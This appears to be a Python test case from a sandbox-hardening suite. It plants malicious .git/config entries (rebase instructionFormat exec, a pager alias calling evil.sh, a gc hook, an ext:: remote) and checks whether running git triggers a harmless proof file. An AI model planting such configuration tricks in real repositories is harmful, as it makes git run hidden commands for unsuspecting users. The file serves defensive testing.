"""Makes a repository whose configuration runs programs by settings that do not look like it: the
format of the list of a rebase, aliases without "!", the hook of the garbage collector.

layer: sweep
control: without a sandbox the operator's `git rebase` runs what the format writes into its list
"""
import os

NEEDS = ["git"]
SETTINGS = {
    "one": '[rebase]\n\tinstructionFormat = "%s%nexec touch {proof}"\n',
    "two": '[alias]\n\tst = "grep --open-files-in-pager={evil} -e x"\n',
    "three": '[gc]\n\tauto = 1\n\trecentObjectsHook = "touch {proof}"\n',
    "four": '[branch "main"]\n\tremote = "ext::touch {proof}"\n',
}


def scene(s):
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws, "settings": SETTINGS}


def attack(a):
    import shutil
    import subprocess
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)

    def git(*words):
        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-C", "base",
                        *words], check=True)
    os.mkdir("base")
    git("init", "-q", "-b", "main")
    put("base/x", "x\n")
    git("add", "x")
    git("commit", "-qm", "first")
    git("branch", "side")
    git("commit", "-q", "--allow-empty", "-m", "second")
    git("checkout", "-q", "side")
    git("commit", "-q", "--allow-empty", "-m", "third")
    for name, text in a["settings"].items():
        shutil.copytree("base", name)
        put(f"{name}/.git/config",
            text.replace("{proof}", a["proof"]).replace("{evil}", a["ws"] + "/evil.sh"), "a")


def escaped(s, r):
    s.t.run("git", "-c", "user.name=t", "-c", "user.email=t@example.com", "rebase", "main",
            cwd=os.path.join(s.ws, "one"))
    s.t.run("git", "st", cwd=os.path.join(s.ws, "two"))
    left = []
    for name in SETTINGS:
        path = os.path.join(s.ws, name, ".git/config")
        text = s.t.read(path) if os.path.exists(path) else ""
        # ward's own, which keeps protected files of the commits away
        if text and not text.startswith("[core]\n\tsparseCheckout = true\n"):
            left.append(name)
    s.t.say(f"configurations left: {left}")
    return os.path.exists(s.proof) or (not s.control and bool(left))
